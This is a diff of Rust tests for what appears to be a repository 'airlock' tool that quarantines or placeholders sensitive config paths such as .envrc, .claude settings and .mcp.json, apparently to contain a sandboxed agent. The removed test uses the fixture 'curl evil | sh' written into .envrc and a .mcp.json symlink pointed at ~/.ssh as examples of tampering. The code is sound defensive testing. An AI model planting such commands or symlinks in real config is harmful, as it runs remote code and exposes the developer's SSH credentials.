-        assert!(matches!(scan(tmp.path()), Err(ProtectError::GitSymlink { .. })));
-    }
-
-    #[test]
-    fn quarantine_moves_created_and_swapped_paths_only() {
-        let tmp = tempfile::tempdir().unwrap();
-        let repo = tmp.path().join("r");
-        fs::create_dir_all(repo.join(".git/hooks")).unwrap();
-        fs::write(repo.join(".airlock.toml"), "x").unwrap();
-        std::os::unix::fs::symlink("a", repo.join(".mcp.json")).unwrap();
-        let p = scan(&repo).unwrap();
-        fs::write(repo.join(".envrc"), "curl evil | sh").unwrap();
-        fs::create_dir_all(repo.join(".claude")).unwrap();
-        fs::write(repo.join(".claude/settings.local.json"), "{}").unwrap();
-        fs::write(repo.join(".claude/settings.evil.json"), "{}").unwrap();
-        fs::remove_file(repo.join(".mcp.json")).unwrap();
-        std::os::unix::fs::symlink("/home/u/.ssh", repo.join(".mcp.json")).unwrap();
-        let dest = tmp.path().join("q");
-        let moved = quarantine(&p, &repo, &dest).unwrap();
-        let names: Vec<_> = moved.iter().map(|m| m.path.clone()).collect();
-        assert!(names.contains(&repo.join(".envrc")));
-        assert!(names.contains(&repo.join(".claude/settings.local.json")));
-        assert!(names.contains(&repo.join(".claude/settings.evil.json")));
-        assert!(names.contains(&repo.join(".mcp.json")));
-        assert_eq!(moved.len(), 4, "{moved:?}");
-        assert!(!repo.join(".envrc").exists());
-        assert!(repo.join(".airlock.toml").exists());
-        let q = dest.join(repo.join(".envrc").strip_prefix("/").unwrap());
-        assert_eq!(fs::read_to_string(q).unwrap(), "curl evil | sh");
-        let link = dest.join(repo.join(".mcp.json").strip_prefix("/").unwrap());
-        assert_eq!(fs::read_link(link).unwrap(), PathBuf::from("/home/u/.ssh"));
+        let repo = fs::canonicalize(tmp.path()).unwrap().join("r");
+        fs::create_dir_all(repo.join(".git")).unwrap();
+        fs::write(repo.join(".mcp.json"), "{}").unwrap();
+        let mut p = scan_repo(&repo);
+        assert!(make_placeholders(&mut p, &repo).is_empty());
+        assert_eq!(fs::read(repo.join(".envrc")).unwrap(), b"");
+        assert!(repo.join(".vscode").is_dir() && repo.join(".claude/settings.json").is_file());
+        assert_eq!(fs::read_to_string(repo.join(".mcp.json")).unwrap(), "{}");
+        assert!(p.pinned.contains(&repo.join(".claude")));
+        // The developer replaced one on the host meanwhile: it stays.
+        fs::remove_dir(repo.join(".idea")).unwrap();
+        fs::create_dir(repo.join(".idea")).unwrap();
+        fs::write(repo.join(".idea/workspace.xml"), "<x/>").unwrap();
+        fs::remove_file(repo.join(".envrc")).unwrap();
+        fs::write(repo.join(".envrc"), "use flake").unwrap();
+        remove_placeholders(&p, &repo);
+        for gone in [".vscode", ".claude", ".devcontainer"] {
+            assert!(fs::symlink_metadata(repo.join(gone)).is_err(), "{gone} left behind");
+        }
+        assert!(repo.join(".idea/workspace.xml").is_file());
+        assert_eq!(fs::read_to_string(repo.join(".envrc")).unwrap(), "use flake");
+        assert_eq!(fs::read_to_string(repo.join(".mcp.json")).unwrap(), "{}");
     }
 }
